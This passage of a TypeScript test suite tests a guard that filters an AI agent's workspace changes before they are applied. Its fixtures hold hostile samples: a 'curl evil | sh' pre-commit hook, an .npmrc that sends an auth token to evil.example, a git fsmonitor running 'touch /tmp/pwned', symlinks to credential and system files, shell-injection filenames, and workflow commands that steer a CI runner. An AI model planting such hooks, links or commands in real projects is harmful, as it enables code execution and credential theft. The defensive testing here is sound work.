// The boundary's pieces on hand-made folders: the change-set builder reads an overlay upper folder
// (whiteouts, opaque folders, odd modes, links, FIFOs, sockets, hard links) against a lower one, the
// apply step writes a real tree that holds planted links, commits come back as objects and a ref.
// Whiteouts are character devices 0/0, which only root can make: these tests run as root (as CI does).
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { applyChangeSet } from '../../src/guard/boundary/apply';
import { buildChangeSet, type ChangeLimits, type ScanResult } from '../../src/guard/boundary/changeSet';
import { agentTips, importCommits, MAX_TIPS } from '../../src/guard/boundary/commits';
import { diskOverrun } from '../../src/guard/boundary/index';
import { probeSource, readOpaqueList, removeTree } from '../../src/guard/boundary/overlay';
import { builtinFileKinds, parseFileKinds } from '../../src/guard/boundary/fileKinds';
import { printedCommand, PrintedCommandScan } from '../../src/guard/boundary/printedCommands';
import { compileGlob } from '../../src/guard/boundary/glob';
import { buildPolicy, gitConfigRules, isGitName, judgedText, nameRefusal } from '../../src/guard/boundary/policy';
import { runnerCommands, utf16, utf32 } from './helpers/runnerModel';
import { boundaryLines, boundaryMarkdown, printable } from '../../src/guard/boundary/report';
import type { FileChange } from '../../src/guard/boundary/types';
import { GuardError } from '../../src/guard/errors';
import { parseRunArgs } from '../../src/guard/options';

const isRoot = process.getuid?.() === 0;
const describeRoot = isRoot || process.env.AGENT_GUARD_E2E === '1' ? describe : describe.skip;

function tree(root: string, files: Record<string, string>): void {
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), content);
  }
}

function whiteout(file: string): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  execFileSync('mknod', [file, 'c', '0', '0']);
}

describe('path globs', () => {
  it('match a name in any folder, anchor with /, and cover whole folders with /**', () => {
    const npmrc = compileGlob('.npmrc');
    expect([npmrc.matches('.npmrc'), npmrc.matches('pkg/a/.npmrc'), npmrc.matches('x.npmrc'), npmrc.matches('.npmrc/x')]).toEqual([true, true, false, false]);
    const husky = compileGlob('.husky/**');
    expect([husky.matches('.husky/pre-commit'), husky.matches('.husky/_/h'), husky.matches('a/.husky/x'), husky.coversFolder('.husky'), husky.coversFolder('husky')]).toEqual([true, true, true, true, false]);
    const rooted = compileGlob('/.github/**');
    expect([rooted.matches('.github/workflows/ci.yml'), rooted.matches('docs/.github/x')]).toEqual([true, false]);
    expect(compileGlob('**/site-packages/**').matches('.venv/lib/python3.12/site-packages/evil.pth')).toBe(true);
    expect(() => compileGlob('a/../b')).toThrow(/not a workspace path glob/);
  });

  it('ignore case, as a case-insensitive checkout would read the names', () => {
    expect([compileGlob('.npmrc').matches('pkg/.NPMRC'), compileGlob('nuget.config').matches('NuGet.Config'), compileGlob('.husky/**').coversFolder('.Husky')]).toEqual([true, true, true]);
  });
});

describe('names', () => {
  it('take the forms git folds into .git on NTFS and HFS+ as .git, and no ordinary name', () => {
    for (const name of ['.git', '.GIT', '.git.', '.git ', '.git. .', 'git~1', 'GIT~1', '.git::$INDEX_ALLOCATION', '.g\u200cit', '\ufeff.git', '.gi\u200et']) {
      expect({ name, git: isGitName(name) }).toEqual({ name, git: true });
    }
    for (const name of ['.github', '.gitignore', 'git', '.git2', 'git~2', 'a.git', '.gitmodules']) expect({ name, git: isGitName(name) }).toEqual({ name, git: false });
  });

  it('refuse control and bidi characters, which make a name read as another, and what breaks out of a double-quoted script', () => {
    for (const name of ['a\nb', 'tab\tname', 'cr\r', 'esc\u001b[31m', 'del\u007f', 'c1\u0085', 'rtl\u202etxt.exe', 'iso\u2066x']) expect({ name, refused: nameRefusal(name) !== undefined }).toEqual({ name, refused: true });
    for (const name of ['README.md', 'café', 'naïve.txt', '日本語', 'emoji-😀', 'a b', '[id].tsx', '(group)', 'Foo$Bar.class', '$types.d.ts', "it's.md", 'Q&A;x|y.md']) {
      expect({ name, refused: nameRefusal(name) }).toEqual({ name, refused: undefined });
    }
    for (const name of ['r$(id>pwned).md', 'x${IFS}y', 'a`id`b', 'say"hi".md']) expect({ name, refused: nameRefusal(name) }).toEqual({ name, refused: expect.stringMatching(/shell syntax/) });
  });
});

describe('content a rule judges', () => {
  const evil = '--index-url https://evil.example/simple\nflask\n';
  it('is plain UTF-8 or not judged at all: pip reads UTF-16 and UTF-32 marks and PEP 263 coding lines', () => {
    expect(judgedText(Buffer.from(evil))).toBe(evil);
    expect(judgedText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(evil)]))).toBe(evil);
    expect(judgedText(Buffer.from('# -*- coding: utf-8 -*-\n' + evil))).toContain('--index-url');
    expect(judgedText(Buffer.from('\ufeff' + evil, 'utf16le'))).toBeUndefined();
    expect(judgedText(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(evil, 'utf16le').swap16()]))).toBeUndefined();
    expect(judgedText(Buffer.from('# -*- coding: utf-7 -*-\n+AC0AIQ-index-url https://evil.example/\n'))).toBeUndefined();
    expect(judgedText(Buffer.from('flask\n# vim: set fileencoding=cp037 :\n'))).toBeUndefined();
    expect(judgedText(Buffer.from('flask\n\u0000'))).toBeUndefined();
    expect(judgedText(Buffer.from([0x66, 0xff, 0x0a]))).toBeUndefined();
    // A coding line below the second line is not one (PEP 263).
    expect(judgedText(Buffer.from('a\nb\n# coding: utf-7\n'))).toBe('a\nb\n# coding: utf-7\n');
  });
});

describe('rules/file-kinds.yml', () => {
  it('loads, and names the tool configuration the issue lists', () => {
    const kinds = builtinFileKinds();
    const refused = (p: string) => kinds.some((k) => !k.when && k.globs.some((g) => g.matches(p)));
    for (const p of ['.npmrc', '.yarnrc', '.yarnrc.yml', '.pnpmfile.cjs', 'pip.conf', '.pypirc', '.gitmodules', '.envrc', '.cargo/config.toml', '.husky/pre-commit', '.github/workflows/ci.yml', 'node_modules/x/index.js']) {
      expect({ p, refused: refused(p) }).toEqual({ p, refused: true });
    }
    for (const p of ['README.md', 'src/index.ts', 'package.json', 'Makefile']) expect({ p, refused: refused(p) }).toEqual({ p, refused: false });
  });

  it('names the configuration that makes a later install, commit, restore or release run code or talk to another host, and leaves the build residue', () => {
    const kinds = builtinFileKinds();
    const rule = (p: string) => kinds.find((k) => k.globs.some((g) => g.matches(p)));
    const always = (p: string) => rule(p) !== undefined && !rule(p)!.when;
    for (const p of [
      '.huskyrc.js', 'husky.config.js', '.lintstagedrc.mjs', 'lint-staged.config.js', 'commitlint.config.ts', '.overcommit.yml', 'Directory.Build.props', 'src/Directory.Build.targets',
      'Directory.Build.rsp', '.terraform/providers/x/terraform-provider-x', 'pdm.toml', '.pdm-python', 'poetry.toml', '.goreleaser.yaml', '.releaserc.json', 'release.config.cjs',
      '.release-it.json', '.changeset/config.json', '.gitlab-ci.yml', '.circleci/config.yml', 'Jenkinsfile', 'NuGet.Config', '.NPMRC',
      'pip/__main__.py', 'pip/__init__.py', 'twine.py', 'build/__init__.py', 'venv.py',
    ]) expect({ p, refused: always(p) }).toEqual({ p, refused: true });
    // The residue docs/guard.md names: a later step that builds, tests or lints runs the agent's code by its own choice.
    for (const p of ['Makefile', 'package.json', 'setup.py', 'build.gradle', 'Gemfile', 'conftest.py', '.bazelrc', 'eslint.config.js', '.vscode/settings.json', '.devcontainer/devcontainer.json', 'sub/.gitlab-ci.yml', 'build/output.js', 'src/pip/__init__.py']) {
      expect({ p, refused: rule(p) !== undefined }).toEqual({ p, refused: false });
    }
    const judged: [string, string, boolean][] = [
      ['requirements.txt', 'flask==3.0\n-r base.txt\n-e .\n', false], ['dev-requirements.txt', '--index-url https://evil.example/simple\nflask\n', true],
      ['requirements/test.txt', '-ihttps://evil.example/simple\n', true], ['constraints.txt', '  --extra-index-url=https://evil.example/\n', true],
      ['requirements.txt', '--find-links /tmp/wheels\n', true], ['Pipfile', '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n', false],
      ['Pipfile', '[[source]]\nurl = "https://evil.example/simple"\n', true], ['global.json', '{"sdk":{"version":"9.0.100"}}', false],
      ['global.json', '{"sdk":{"paths":[".dotnet","$host$"]}}', true], ['rust-toolchain.toml', '[toolchain]\nchannel = "1.80"\n', false],
      ['rust-toolchain.toml', '[toolchain]\npath = "/tmp/evil"\n', true],
    ];
    for (const [p, text, refusedWhen] of judged) expect({ p, text, refused: rule(p)!.when!.test(text) }).toEqual({ p, text, refused: refusedWhen });
    const attributes = kinds.find((k) => k.globs.some((g) => g.matches('.gitattributes')))!;
    expect(attributes.when!.test('*.png binary\n* text=auto\n')).toBe(false);
    expect(attributes.when!.test('*.c filter=indent\n')).toBe(true);
  });

  it.each([
    ['refuse: 3\n', /rules\/file-kinds\.yml:1:\d+: `refuse` must be a non-empty list/],
    ['other: []\n', /:1:1: expected one key, `refuse`/],
    ['refuse:\n  - paths: [a]\n', /:2:\d+: refuse\[0\]\.reason/],
    ['refuse:\n  - paths: [a]\n    reason: x\n    colour: red\n', /:4:5: refuse\[0\]: unknown field "colour"/],
    ['refuse:\n  - paths: ["a/../b"]\n    reason: x\n', /:2:\d+: refuse\[0\]\.paths: .*not a workspace path glob/],
    ['refuse:\n  - paths: [a]\n    reason: x\n    when: "("\n', /:4:\d+: refuse\[0\]\.when: /],
    ['refuse:\n  - paths: [a\n', /rules\/file-kinds\.yml:\d+:\d+: /],
  ])('refuses a broken file with its line: %j', (text, message) => {
    let caught: unknown;
    try {
      parseFileKinds(text);
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(GuardError);
    expect((caught as GuardError).layer).toBe('boundary');
    expect((caught as Error).message).toMatch(message);
    expect((caught as Error).message).not.toMatch(/\n/);
  });
});

describe('--allow-path', () => {
  it('takes globs, repeatable, and never .git', () => {
    expect(parseRunArgs(['--allow-path', '.npmrc', '--allow-path=.github/**', '--', 'x']).allowPaths).toEqual(['.npmrc', '.github/**']);
    expect(() => parseRunArgs(['--allow-path', '.git/**', '--', 'x'])).toThrow(/nothing under .git/);
    expect(() => parseRunArgs(['--allow-path', 'sub/.GIT/config', '--', 'x'])).toThrow(/nothing under .git/);
    expect(() => parseRunArgs(['--allow-path', '../x', '--', 'x'])).toThrow(GuardError);
  });
});

describe('reports', () => {
  it('escape agent-chosen names for the log and the summary', () => {
    const nasty = 'x\n::add-mask::secret ##[error]![img](https://evil.example/?q=1) \u202e';
    const line = printable(nasty);
    expect(line).not.toMatch(/[\n\r\u202e]/);
    expect(line).not.toContain('::');
    expect(line).not.toContain('##[');
    const lines = boundaryLines({ changes: { files: [], refused: [{ path: nasty, reason: 'refused: a FIFO' }], commits: [] }, applied: [] });
    expect(lines.every((l) => !/[\n\r]/.test(l) && !l.includes('##[') && !/^\s*::/.test(l))).toBe(true);
    const summary = boundaryMarkdown({ changes: { files: [], refused: [{ path: nasty, reason: 'r' }], commits: [] }, applied: [] });
    // Markdown sees escaped brackets: no image, no link, nothing fetched when the summary is viewed.
    expect(summary).not.toMatch(/(^|[^\\])!\[/m);
    expect(summary).not.toMatch(/(^|[^\\])\]\(/m);
  });

  it('log a hundred refusals at most, and say how many more the audit holds', () => {
    const refused = Array.from({ length: 250 }, (_, i) => ({ path: `f${i}.fifo`, reason: 'refused: a FIFO' }));
    const lines = boundaryLines({ changes: { files: [], refused, commits: [] }, applied: [] });
    expect(lines.length).toBe(102);
    expect(lines[100]).toBe('agent-guard: boundary: and 150 more refused (every one is in the audit file)');
  });
});

describe('workflow commands in a file a later step prints', () => {
  const steering = ['::set-output name=decision::approve', '  ::save-state name=s::v', '\u00a0::SET-ENV name=X::y', '::add-path::/tmp/evil', '::add-matcher::m.json', '::stop-commands::tok', 'text ##[set-output name=x;]y', '##[stop-commands]tok'];
  it('finds every steering command the runner would read, in any case, after blanks, legacy form anywhere', () => {
    for (const line of steering) {
      const text = `# report\nsome words\n${line}\nmore\n`;
      // The runner model agrees it is a command, and the scan names it.
      expect({ line, model: runnerCommands(Buffer.from(text)).length > 0, scan: printedCommand(Buffer.from(text)) !== undefined }).toEqual({ line, model: true, scan: true });
    }
  });

  it('reads a UTF-16 or UTF-32 file as the runner would when it is printed first, and across any chunking', () => {
    const text = 'hello\r::set-output name=x::y\n';
    for (const bytes of [utf16(text, 'le', true), utf16(text, 'be', true), utf32(text, 'le', true), utf32(text, 'be', true), Buffer.from('\ufeff' + text)]) {
      expect(runnerCommands(bytes).length).toBe(1);
      for (const size of [1, 2, 3, 5, 4096]) {
        const scan = new PrintedCommandScan();
        for (let i = 0; i < bytes.length; i += size) scan.push(bytes.subarray(i, i + size));
        expect({ size, found: scan.end() }).toEqual({ size, found: 'set-output' });
      }
    }
    // A long line before it: the command still starts its own line.
    expect(printedCommand(Buffer.from(`${'x'.repeat(100_000)}\n::stop-commands::t\n`))).toBe('stop-commands');
  });

  it('leaves what only shows text, and commands not at a line start', () => {
    for (const text of ['::warning::look here\n', '::add-mask::secret\n', '::error file=a::b\n', 'echo "::set-output name=x::y"\n', 'a::set-output name=x::y\n', 'C++ ::std::vector\n', `${'x'.repeat(10_000)}::set-output name=a::b\n`]) {
      expect({ text: text.slice(0, 30), found: printedCommand(Buffer.from(text)) }).toEqual({ text: text.slice(0, 30), found: undefined });
    }
  });
});

describe('the overlay probe\'s answer', () => {
  it('is a list of folders; its own failure is the boundary failing (exit 125), not "the agent was stopped"', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-probe-'));
    try {
      const layout = { opaqueList: path.join(dir, 'opaque.json') } as Parameters<typeof readOpaqueList>[0];
      expect(readOpaqueList(layout)).toBeUndefined(); // not written: the jail was killed before it ran
      fs.writeFileSync(layout.opaqueList, '["src","a/b"]');
      expect([...readOpaqueList(layout)!]).toEqual(['src', 'a/b']);
      fs.writeFileSync(layout.opaqueList, '{"error":"the probe stopped"}');
      expect(() => readOpaqueList(layout)).toThrow(new GuardError('boundary', 'could not read which folders the agent replaced (the probe stopped); nothing was brought back'));
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the disk watch', () => {
  const GIB = 1024 ** 3;
  const limits = { maxBytes: 4 * GIB, maxFiles: 1000 };
  const start = { bytes: 100 * GIB, inodes: 1_000_000, totalInodes: 2_000_000 };
  it('stops the agent past --max-disk, or past half the free disk, or past ten times --max-files new inodes', () => {
    expect(diskOverrun(start, { bytes: 97 * GIB, inodes: 999_000 }, limits)).toBeUndefined();
    expect(diskOverrun(start, { bytes: 95 * GIB, inodes: 999_000 }, limits)).toBe("disk budget of 4 GiB used up by the agent's copy of the workspace (--max-disk)");
    expect(diskOverrun({ ...start, bytes: 6 * GIB }, { bytes: 2.9 * GIB, inodes: 999_000 }, limits)).toBe("disk budget of 3 GiB used up by the agent's copy of the workspace (--max-disk, or half the free disk)");
    expect(diskOverrun(start, { bytes: 99 * GIB, inodes: 1_000_000 - 10_001 }, limits)).toMatch(/^file budget of 10000 files used up/);
    // A filesystem without inode counts (btrfs) is watched by bytes alone.
    expect(diskOverrun({ bytes: 100 * GIB, inodes: 0, totalInodes: 0 }, { bytes: 99 * GIB, inodes: 0 }, limits)).toBeUndefined();
  });
});

describeRoot('change set from an overlay upper folder', () => {
  let base: string;
  let lower: string;
  let upper: string;
  let content: string;
  const scan = (opts: { opaque?: string[]; allow?: string[]; seeded?: string[]; hidden?: string[]; limits?: Partial<ChangeLimits> } = {}): ScanResult =>
    buildChangeSet({
      upper, workspace: lower, opaque: new Set(opts.opaque ?? []), seeded: new Set(opts.seeded ?? []), contentDir: content,
      policy: buildPolicy(lower, opts.allow ?? [], opts.hidden ?? []), limits: { maxFiles: 1000, maxBytes: 1024 ** 3, ...opts.limits },
    });
  const byPath = (r: ScanResult) => Object.fromEntries(r.changes.files.map((f) => [f.path, f.kind === 'write' ? `write ${f.mode.toString(8)} ${fs.readFileSync(f.contentFile, 'utf8')}` : f.kind === 'symlink' ? `link ${f.target}` : 'delete']));
  const refusedPaths = (r: ScanResult) => r.changes.refused.map((x) => x.path).sort();

  beforeEach(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-boundary-'));
    lower = path.join(base, 'lower');
    upper = path.join(base, 'upper');
    content = path.join(base, 'content');
    for (const d of [lower, upper, content]) fs.mkdirSync(d);
    tree(lower, { 'README.md': 'hello\n', 'src/a.js': 'a\n', 'src/b.js': 'b\n', 'old/x': 'x\n', 'old/deep/y': 'y\n', 'run.sh': '#!/bin/sh\n', 'keep/k': 'k\n', 'was-file': 'f\n' });
    fs.symlinkSync('src/a.js', path.join(lower, 'alias'));
  });
  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

  it('reads edits, new files in new folders, deletions, whole-folder deletions and mode changes', () => {
    tree(upper, { 'README.md': 'hello\nmore\n', 'new/dir/f.txt': 'new\n', 'src/c.js': 'c\n' });
    whiteout(path.join(upper, 'src', 'b.js'));
    whiteout(path.join(upper, 'old'));
    fs.writeFileSync(path.join(upper, 'run.sh'), '#!/bin/sh\n');
    fs.chmodSync(path.join(upper, 'run.sh'), 0o775);
    const r = scan();
    expect(byPath(r)).toEqual({
      'README.md': 'write 644 hello\nmore\n', 'new/dir/f.txt': 'write 644 new\n', 'src/c.js': 'write 644 c\n', 'src/b.js': 'delete',
      'old/x': 'delete', 'old/deep/y': 'delete', 'run.sh': 'write 755 #!/bin/sh\n',
    });
    expect(r.removedDirs).toEqual(['old/deep', 'old']);
    expect(r.changes.refused).toEqual([]);
    const readme = r.changes.files.find((f) => f.path === 'README.md') as Extract<FileChange, { kind: 'write' }>;
    expect(readme.sha256).toBe(crypto.createHash('sha256').update('hello\nmore\n').digest('hex'));
    expect(readme.size).toBe(11);
  });

  it('skips copies that changed nothing (touch, same bytes, same mode)', () => {
    fs.writeFileSync(path.join(upper, 'README.md'), 'hello\n');
    fs.mkdirSync(path.join(upper, 'src'));
    fs.writeFileSync(path.join(upper, 'src', 'a.js'), 'a\n');
    expect(scan().changes.files).toEqual([]);
  });

  it('deletes what an opaque folder hides and keeps what it holds', () => {
    tree(upper, { 'src/a.js': 'a2\n' });
    const r = scan({ opaque: ['src'] });
    expect(byPath(r)).toEqual({ 'src/a.js': 'write 644 a2\n', 'src/b.js': 'delete' });
    // Without the opaque mark the same upper folder merges with the lower one.
    expect(byPath(scan())).toEqual({ 'src/a.js': 'write 644 a2\n' });
  });

  it('replaces a folder with a file and a file or link with a folder', () => {
    fs.writeFileSync(path.join(upper, 'keep'), 'now a file\n');
    tree(upper, { 'was-file/inside': 'i\n', 'alias/z': 'z\n' });
    const r = scan({ opaque: ['was-file', 'alias'] });
    expect(byPath(r)).toEqual({ keep: 'write 644 now a file\n', 'keep/k': 'delete', 'was-file': 'delete', 'was-file/inside': 'write 644 i\n', alias: 'delete', 'alias/z': 'write 644 z\n' });
  });

  it('refuses setuid, setgid, sticky, FIFOs, sockets and hard links', async () => {
    tree(upper, { suid: 's', sgid: 'g', sticky: 't', linked: 'l' });
    fs.chmodSync(path.join(upper, 'suid'), 0o4755);
    fs.chmodSync(path.join(upper, 'sgid'), 0o2755);
    fs.chmodSync(path.join(upper, 'sticky'), 0o1644);
    fs.linkSync(path.join(upper, 'linked'), path.join(upper, 'linked-too'));
    execFileSync('mkfifo', [path.join(upper, 'build.log')]);
    const server = net.createServer();
    await new Promise<void>((resolve) => server.listen(path.join(upper, 'agent.sock'), () => resolve()));
    try {
      const r = scan();
      expect(r.changes.files).toEqual([]);
      expect(refusedPaths(r)).toEqual(['agent.sock', 'build.log', 'linked', 'linked-too', 'sgid', 'sticky', 'suid']);
      const reason = (p: string) => r.changes.refused.find((x) => x.path === p)!.reason;
      expect(reason('build.log')).toMatch(/FIFO/);
      expect(reason('agent.sock')).toMatch(/socket/);
      expect(reason('linked')).toMatch(/hard link/);
      expect(reason('suid')).toMatch(/setuid/);
    } finally {
      server.close();
    }
  });

  it('takes symlinks that stay inside the workspace and out of .git, and no other', () => {
    const links: Record<string, string> = {
      'docs/latest': '../README.md', 'abs-inside': `${lower}/src/a.js`, 'agent-report.md': '/proc/self/environ', 'creds': '/home/runner/.npmrc',
      'up': '../../etc/passwd', 'sneaky': 'src/../../x', 'into-git': '.git/config', 'nested/into-git': '../sub/.GIT/hooks',
    };
    for (const [p, target] of Object.entries(links)) {
      fs.mkdirSync(path.dirname(path.join(upper, p)), { recursive: true });
      fs.symlinkSync(target, path.join(upper, p));
    }
    const r = scan();
    expect(byPath(r)).toEqual({ 'docs/latest': 'link ../README.md', 'abs-inside': `link ${lower}/src/a.js` });
    expect(refusedPaths(r)).toEqual(['agent-report.md', 'creds', 'into-git', 'nested/into-git', 'sneaky', 'up']);
  });

  it('refuses everything named .git, at any depth, in one line per folder, and not the seeded configs', () => {
    tree(upper, { '.git/config': '[core]\n\tfsmonitor = evil\n', 'vendor/lib/.git/config': '[core]\n', 'sub/.GIT': 'gitdir: ../x\n', 'ok.txt': 'fine\n' });
    expect(refusedPaths(scan({ seeded: ['.git/config'] }))).toEqual(['sub/.GIT', 'vendor/lib/.git/']);
    const r = scan();
    expect(refusedPaths(r)).toEqual(['.git/', 'sub/.GIT', 'vendor/lib/.git/']);
    expect(r.gitChanged).toBe(true);
    expect(byPath(r)).toEqual({ 'ok.txt': 'write 644 fine\n' });
  });

  it('refuses names that are not UTF-8, and still reads the rest', () => {
    tree(upper, { 'ok.txt': 'fine\n' });
    fs.writeFileSync(Buffer.from(`${upper}/bad-\xff.txt`, 'latin1'), 'x');
    fs.mkdirSync(path.join(upper, '.git'));
    fs.writeFileSync(Buffer.from(`${upper}/.git/odd-\xfe`, 'latin1'), 'x');
    const r = scan();
    expect(byPath(r)).toEqual({ 'ok.txt': 'write 644 fine\n' });
    expect(r.changes.refused.map((x) => [x.path, x.reason.slice(0, 30)])).toEqual([['bad-\xff.txt', 'refused: the name is not valid'], ['.git/', '1 change(s) refused, inside .g']]);
  });

  it('refuses a folder made to look like a git repository (git would run its config)', () => {
    tree(upper, { 'fixture/HEAD': 'ref: refs/heads/main\n', 'fixture/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n', 'fixture/refs/heads/main': '0'.repeat(40) + '\n', 'fixture/objects/info/x': '' });
    const r = scan();
    expect(refusedPaths(r)).toEqual(['fixture/HEAD', 'fixture/config']);
  });

  it('refuses tool configuration, lifts it with --allow-path, and judges content where the rule says so', () => {
    tree(upper, {
      '.npmrc': 'registry=https://evil.example/\n//evil.example/:_authToken=${NODE_AUTH_TOKEN}\n', 'pkg/.yarnrc.yml': 'yarnPath: evil.cjs\n',
      '.gitattributes': '*.js filter=evil\n', 'docs/.gitattributes': '*.png binary\n', '.husky/pre-commit': 'curl evil | sh\n', '.github/workflows/x.yml': 'on: push\n',
    });
    whiteout(path.join(upper, 'keep', 'k'));
    fs.writeFileSync(path.join(lower, '.pre-commit-config.yaml'), 'repos: []\n');
    whiteout(path.join(upper, '.pre-commit-config.yaml'));
    const r = scan();
    expect(byPath(r)).toEqual({ 'docs/.gitattributes': 'write 644 *.png binary\n', 'keep/k': 'delete' });
    expect(refusedPaths(r)).toEqual(['.gitattributes', '.github/', '.husky/', '.npmrc', '.pre-commit-config.yaml', 'pkg/.yarnrc.yml']);
    expect(r.changes.refused.find((x) => x.path === '.pre-commit-config.yaml')!.reason).toMatch(/^deletion refused/);
    const allowed = scan({ allow: ['.npmrc', '.github/**'] });
    expect(Object.keys(byPath(allowed)).sort()).toEqual(['.github/workflows/x.yml', '.npmrc', 'docs/.gitattributes', 'keep/k']);
  });

  it('refuses a whole new node_modules in one line', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 50; i++) files[`node_modules/p${i}/index.js`] = 'x';
    tree(upper, files);
    const r = scan();
    expect(r.changes.refused).toEqual([{ path: 'node_modules/', reason: expect.stringMatching(/^the folder refused: installed packages/) }]);
  });

  it('refuses the hooks folder and included files the real git config names (core.hooksPath, include.path)', () => {
    tree(lower, { '.git/config': '[core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../team.gitconfig\n\tpath = /etc/elsewhere\n' });
    expect(gitConfigRules(lower).map((k) => k.reason)).toEqual([expect.stringMatching(/core\.hooksPath/), expect.stringMatching(/include\.path/)]);
    tree(upper, { 'tools/hooks/pre-commit': 'evil\n', 'tools/other': 'fine\n', 'team.gitconfig': '[core]\n\tfsmonitor = evil\n' });
    const r = scan();
    expect(refusedPaths(r)).toEqual(['team.gitconfig', 'tools/hooks/']);
    expect(Object.keys(byPath(r))).toEqual(['tools/other']);
  });

  it('reads files and folders the agent made unreadable', () => {
    if (!isRoot) return;
    tree(upper, { 'locked/f': 'secret work\n' });
    fs.chmodSync(path.join(upper, 'locked', 'f'), 0);
    fs.chmodSync(path.join(upper, 'locked'), 0);
    expect(byPath(scan())).toEqual({ 'locked/f': 'write 644 secret work\n' });
  });

  it('refuses names that read as another name: control and bidi characters, and the NTFS and HFS+ forms of .git', () => {
    tree(upper, { 'reports/ok.md': 'ok\n', 'reports/x\n/home/runner/.npmrc': 'x', 'git~1/config': 'c', '.git. /config': 'c', 'reports/\u202egpj.exe': 'x', '.g\u200cit': 'x' });
    const r = scan();
    expect(byPath(r)).toEqual({ 'reports/ok.md': 'write 644 ok\n' });
    const lookalike = 'refused: git takes this name for .git';
    const unsafe = 'refused: the name holds a control or bidi character';
    expect(r.changes.refused.map((x) => [x.path, x.reason.startsWith(lookalike) ? lookalike : x.reason.startsWith(unsafe) ? unsafe : x.reason]).sort()).toEqual([
      ['.g\u200cit', lookalike], ['.git. /', lookalike], ['git~1/', lookalike], ['reports/x\n/', unsafe], ['reports/\u202egpj.exe', unsafe],
    ].sort());
  });

  it('judges a config file whole, not its first MiB, and refuses one too large to judge', () => {
    const padded = `${'# padding\n'.repeat(150_000)}[[tool.uv.index]]\nurl = "https://evil.example/simple"\n`;
    tree(upper, { 'pyproject.toml': padded, 'ok/pyproject.toml': '[project]\nname = "x"\n' });
    const r = scan();
    expect(refusedPaths(r)).toEqual(['pyproject.toml']);
    expect(Object.keys(byPath(r))).toEqual(['ok/pyproject.toml']);
  });

  it('refuses links to what a later step must not reach through a name the agent chose, and takes the rest', () => {
    tree(lower, { 'gha-creds-1.json': '{"private_key":"k"}', 'vendor/lib/.git/config': '[http]\n\textraheader = token\n', 'vendor/lib/x.js': 'x', 'kube/gha-kubeconfig-1': 'token', 'docs/a.md': 'a' });
    const links: Record<string, string> = {
      'r/creds.md': '../gha-creds-1.json', 'r/root': '..', 'abs-root': lower, 'r/vendor': '../vendor', 'r/kube': '../kube', 'r/docs': '../docs', 'r/a.md': '../docs/a.md', 'r/lib-file': '../vendor/lib/x.js',
    };
    for (const [p, target] of Object.entries(links)) {
      fs.mkdirSync(path.dirname(path.join(upper, p)), { recursive: true });
      fs.symlinkSync(target, path.join(upper, p));
    }
    const r = scan({ hidden: ['gha-creds-1.json', 'kube/gha-kubeconfig-1'] });
    expect(byPath(r)).toEqual({ 'r/docs': 'link ../docs', 'r/a.md': 'link ../docs/a.md', 'r/lib-file': 'link ../vendor/lib/x.js' });
    const reason = (p: string) => r.changes.refused.find((x) => x.path === p)?.reason;
    expect(reason('r/creds.md')).toMatch(/credential file the jail hid/);
    expect(reason('r/kube')).toMatch(/folder holding a credential file/);
    expect(reason('r/root')).toMatch(/the whole workspace/);
    expect(reason('abs-root')).toMatch(/the whole workspace/);
    expect(reason('r/vendor')).toMatch(/folder holding a git repository/);
  });

  it('refuses a link to a FIFO an earlier step left, and looks at each linked folder once', () => {
    execFileSync('mkfifo', [path.join(lower, 'pipe')]);
    const big: Record<string, string> = {};
    for (let i = 0; i < 500; i++) big[`big/f${i}`] = '';
    tree(lower, big);
    fs.mkdirSync(path.join(upper, 'r'));
    fs.symlinkSync('../pipe', path.join(upper, 'r', 'log.txt'));
    for (let i = 0; i < 300; i++) fs.symlinkSync('../big', path.join(upper, 'r', `big${i}`));
    const readdir = jest.spyOn(fs, 'readdirSync');
    try {
      const r = scan();
      expect(r.changes.refused.map((x) => [x.path, x.reason])).toEqual([['r/log.txt', expect.stringMatching(/a FIFO, socket or device/)]]);
      expect(r.changes.files.length).toBe(300);
      const bigReads = readdir.mock.calls.filter(([dir]) => String(dir) === path.join(lower, 'big') || String(dir) === `${lower}/big`).length;
      expect(bigReads).toBe(1);
    } finally {
      readdir.mockRestore();
    }
  });

  it('refuses a file that a later step printing it would turn into a steering workflow command, unless --allow-path', () => {
    tree(upper, { 'report.md': '# Review\n\n::set-output name=decision::approve\n', 'notes.md': 'use ::add-mask:: to hide\n' });
    fs.writeFileSync(path.join(upper, 'report16.md'), utf16('ok\n::stop-commands::x\n', 'le', true));
    const r = scan();
    expect(byPath(r)).toEqual({ 'notes.md': 'write 644 use ::add-mask:: to hide\n' });
    expect(r.changes.refused.map((x) => [x.path, x.reason]).sort()).toEqual([
      ['report.md', 'refused: a later step that prints it (cat) would hand the runner its set-output workflow command'],
      ['report16.md', 'refused: a later step that prints it (cat) would hand the runner its stop-commands workflow command'],
    ]);
    expect(Object.keys(byPath(scan({ allow: ['report.md'] }))).sort()).toEqual(['notes.md', 'report.md']);
  });

  it('refuses a change set of more files than --max-files before copying a byte, deletions counted', () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 30; i++) files[`gen/f${i}`] = 'x';
    tree(upper, files);
    expect(() => scan({ limits: { maxFiles: 20 } })).toThrow(/^the agent's changes hold more than 20 files and folders \(--max-files\); nothing was brought back$/);
    expect(fs.readdirSync(content)).toEqual([]);
    fs.rmSync(path.join(upper, 'gen'), { recursive: true });
    for (let i = 0; i < 30; i++) tree(lower, { [`big/f${i}`]: 'x' });
    whiteout(path.join(upper, 'big'));
    expect(() => scan({ limits: { maxFiles: 20 } })).toThrow(GuardError);
